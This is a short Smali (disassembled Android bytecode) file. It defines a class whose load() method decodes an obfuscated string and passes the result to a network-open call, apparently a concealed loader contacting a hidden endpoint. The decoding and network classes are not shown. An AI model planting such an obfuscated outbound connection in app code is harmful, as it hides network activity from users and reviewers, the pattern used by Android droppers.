.class public Ll2/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "\u0007EY2\u0000P@C\u0003\u000b\u0003P\u001fl\u0000\u0002\u0000\u001cL\u0013\u000aBYm\u0005[@\u0000\u000d\u0000\u0006_"
    invoke-static {v0}, Ll2/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Ll2/Net;->open(Ljava/lang/String;)V
    return-void
.end method

